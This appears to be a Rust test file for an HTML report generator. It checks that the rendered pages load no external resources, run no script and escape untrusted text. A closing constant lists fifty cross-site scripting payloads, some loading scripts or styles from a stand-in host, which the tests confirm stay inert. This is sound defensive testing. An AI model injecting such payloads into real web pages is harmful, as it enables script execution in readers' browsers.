//! Tests of the pages: they load no external resources, and untrusted text never becomes markup.

use proptest::prelude::*;
use records::{Layer, Measurement};
use report::html::figure_6_1::{Curve, figure_6_1, packet_bits};
use report::html::line_chart::{Line, LineChart, LineStyle};
use report::html::plot::{Plot, PlotAxis, Scale, Series, SeriesShape, Unit};
use report::html::waterfall::{Span, Waterfall};
use report::html::{Report, Section};
use report::split_row::Part;
use report::summary;
use report::table::Table;

/// Returns every tag of `page` with the names of its attributes; accepts only the syntax that this
/// crate writes.
///
/// # Panics
///
/// Panics if an angle bracket or a quote does not belong to a tag.
fn tags(page: &str) -> Vec<(String, Vec<String>)> {
    let (head, rest) = page.split_once("<style>").expect("a page has a style");
    let (_, body) = rest.split_once("</style>").expect("a style ends");
    let mut found_tags = Vec::new();
    for piece in head.split('<').skip(1).chain(body.split('<').skip(1)) {
        let (tag, text) = piece.split_once('>').expect("a tag ends");
        assert!(!text.contains(['>', '"', '\'']), "{text}");
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        let mut names = Vec::new();
        while let Some((attribute, rest)) = attributes.split_once("=\"") {
            let (value, rest) = rest.split_once('"').expect("a quoted value ends");
            let is_policy = value.starts_with("default-src 'none'");
            assert!(is_policy || !value.contains('\''), "{value}");
            names.push(attribute.trim().to_owned());
            attributes = rest;
        }
        assert!(["", "/", "html"].contains(&attributes), "{attributes}");
        found_tags.push((name.to_owned(), names));
    }
    found_tags
}

/// Returns a page with `text` in every field that takes text.
fn page_of(text: &str) -> String {
    let text = text.to_owned();
    let mut table = Table::new().text(&text).number(&text);
    table.row([text.clone(), text.clone()]);
    let line =
        |style| Line { name: text.clone(), points: vec![(0.0, 0.0), (1.0, 1.0)], hue: 0, style };
    let chart = LineChart {
        title: text.clone(),
        x_label: text.clone(),
        y_label: text.clone(),
        lines: vec![line(LineStyle::Solid), line(LineStyle::Dashed)],
        note: format!("note {text}"),
    };
    let axis = PlotAxis { label: text.clone(), unit: Unit::Time, scale: Scale::FromZero };
    let points = vec![(0.0, 0.0), (1.0, 1.0)];
    let series = |shape| Series { name: text.clone(), points: points.clone(), hue: 0, shape };
    let plot = Plot {
        title: text.clone(),
        x: axis.clone(),
        y: axis,
        series: vec![
            series(SeriesShape::Marks),
            series(SeriesShape::Bars),
            series(SeriesShape::Steps),
        ],
        note: format!("note {text}"),
        figures: table.clone(),
    };
    let span = Span { label: text.clone(), start_ns: 0, end_ns: 9, part: None };
    let waterfall = Waterfall {
        title: text.clone(),
        spans: vec![span],
        noticed_ns: None,
        draws_short_spans: false,
        note: text.clone() + ".",
    };
    let mut stack = summary::stack(&sample());
    stack.title.clone_from(&text);
    for bar in &mut stack.bars {
        bar.label.clone_from(&text);
        bar.name.clone_from(&text);
    }
    let sections = vec![
        Section::Lead(text.clone()),
        Section::Heading(text.clone()),
        Section::Paragraph(text.clone()),
        Section::Command(text.clone()),
        Section::Table { title: text.clone(), table },
        Section::Chart(chart),
        Section::Plot(Box::new(plot)),
        Section::Waterfall(waterfall),
        Section::Layers(stack),
    ];
    Report { title: text, sections }.render()
}

fn sample() -> Measurement {
    Measurement::from_json(include_str!("../../records/samples/measurement-1.json"))
        .expect("it parses")
}

/// Returns the page of a record with all fields.
fn full_page() -> String {
    let record = include_str!("../../records/samples/measurement-2.json");
    summary::report(&Measurement::from_json(record).expect("it parses")).render()
}

/// Asserts that every opened element of `page` is closed, in the correct order.
fn assert_well_formed(page: &str) {
    let mut open: Vec<&str> = Vec::new();
    let (head, rest) = page.split_once("<style>").expect("a page has a style");
    let (_, body) = rest.split_once("</style>").expect("a style ends");
    for piece in head.split('<').skip(1).chain(body.split('<').skip(1)) {
        let (tag, _) = piece.split_once('>').expect("a tag ends");
        let name = tag.split(' ').next().expect("a tag has a name");
        match name.strip_prefix('/') {
            Some(closed) => assert_eq!(open.pop(), Some(closed)),
            None if tag.ends_with('/') || ["!DOCTYPE", "meta"].contains(&name) => {}
            None => open.push(name),
        }
    }
    assert!(open.is_empty(), "{open:?}");
}

/// Returns the page of the sample, with a figure 6-1 and the waterfall of a keystroke.
fn sample_page() -> String {
    let our_points = Curve::ALL.map(|transfer| {
        let points = (0..=500)
            .step_by(50)
            .map(|data| (packet_bits(data), transfer.seconds_1982(data) * 0.97));
        (transfer, points.collect())
    });
    let spans = [
        ("key read from the terminal", 0, 2_100, Some(Layer::InterruptOrSystemCall)),
        ("Telnet: one data byte", 2_100, 2_400, Some(Layer::Telnet)),
        ("TCP: segment made", 2_400, 4_000, Some(Layer::TcpFixed)),
        ("IP: header", 4_000, 4_400, Some(Layer::Internet)),
        ("written to the wire", 4_400, 9_800, Some(Layer::InterruptOrSystemCall)),
        ("remote host and network", 9_800, 196_000, Some(Layer::RemoteHostAndNetwork)),
        ("read from the wire", 196_000, 201_100, Some(Layer::InterruptOrSystemCall)),
        ("TCP: segment taken", 201_100, 203_000, Some(Layer::TcpFixed)),
        ("Telnet: one data byte", 203_000, 203_400, Some(Layer::Telnet)),
        ("cell on the screen", 203_400, 210_000, Some(Layer::Terminal)),
    ];
    let spans = spans.map(|(label, start_ns, end_ns, layer)| Span {
        label: label.to_owned(),
        start_ns,
        end_ns,
        part: layer.map(Part::from),
    });
    let mut report = summary::report(&sample());
    report.sections.push(Section::Waterfall(Waterfall {
        title: "One keystroke, from key to cell".to_owned(),
        spans: spans.to_vec(),
        noticed_ns: None,
        draws_short_spans: false,
        note: "The median of 200 echoes.".to_owned(),
    }));
    report.sections.push(Section::Chart(figure_6_1(&our_points)));
    report.render()
}

#[test]
fn a_page_needs_no_network_and_runs_no_script() {
    let page = sample_page();
    let report_path = concat!(env!("CARGO_TARGET_TMPDIR"), "/sample-report.html");
    std::fs::write(report_path, &page).unwrap();
    let url_attributes = ["src", "href", "action", "style", "srcset", "data", "background"];
    for (name, attributes) in tags(&page) {
        assert!(!["script", "link", "img", "iframe", "object", "base"].contains(&name.as_str()));
        assert!(!attributes.iter().any(|name| name.starts_with("on")));
        assert!(!attributes.iter().any(|name| url_attributes.contains(&name.as_str())));
    }
    assert_eq!(page.matches("://").count(), page.matches("telnet://").count());
    assert!(!page.contains("url(") && !page.contains("@import"));
}

#[test]
fn a_page_with_every_chart_is_well_formed_and_contains_them() {
    let page = full_page();
    let report_path = concat!(env!("CARGO_TARGET_TMPDIR"), "/full-report.html");
    std::fs::write(report_path, &page).unwrap();
    assert_well_formed(&page);
    for title in [
        "Echo histogram",
        "Share of keystrokes echoed within a time",
        "Time-sequence graph of the screenful",
        "Packets of the screenful",
        "Time-sequence graph of the largest transfer",
        "Throughput against size",
    ] {
        assert!(page.contains(&format!("<figure>\n<h2>{title}</h2>\n<svg class=\"wide\"")));
    }
}

#[test]
fn every_chart_has_a_role_a_label_and_a_table_beside_it() {
    let page = sample_page();
    let pictures = page.matches("<svg class=\"wide\"").count();
    assert_eq!(page.matches("role=\"group\" aria-label=\"").count(), 2 * pictures);
    // Each bar and mark has a text that needs no pointer.
    let tips = page.matches("<g class=\"tip\" tabindex=\"").count();
    assert_eq!(page.matches("role=\"img\" aria-label=\"").count(), tips);
    assert!(tips > pictures, "{tips}");
    for figure in page.split("<figure>").skip(1) {
        assert!(figure.split("</figure>").next().unwrap().contains("<table>"));
    }
}

#[test]
fn a_page_declares_its_policy_first() {
    let page = sample_page();
    let policy = page.find("Content-Security-Policy").unwrap();
    assert!(policy < page.find("<title>").unwrap());
    assert!(policy < page.find("<style>").unwrap());
}

// attack row 110
#[test]
fn attack_row_110_fifty_payloads_in_every_place_stay_text() {
    let harmless = tags(&page_of("harmless"));
    assert_eq!(PAYLOADS.len(), 50);
    for payload in PAYLOADS {
        assert_eq!(tags(&page_of(payload)), harmless, "{payload}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn attack_row_110_no_text_adds_a_tag_or_an_attribute(text in "[<>\"'&;/=a-z\\PC]{1,40}") {
        prop_assert_eq!(tags(&page_of(&text)), tags(&page_of("harmless")));
    }
}

/// Payloads used in banners and file names to run script in the browser of the reader.
const PAYLOADS: [&str; 50] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//e.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</text><script>alert(1)</script>",
    "</table><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script href=data:,alert(1) />",
    "<svg><use href=data:image/svg+xml,x#y>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<base href=//e.example/>",
    "<link rel=stylesheet href=//e.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//e.example/x.css';</style>",
    "<style>*{background:url(//e.example)}</style>",
    "<form action=//e.example><input name=p>",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\"/><svg onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{0}<\u{0}script\u{0}>alert(1)\u{feff}\u{202e}<plaintext>",
];
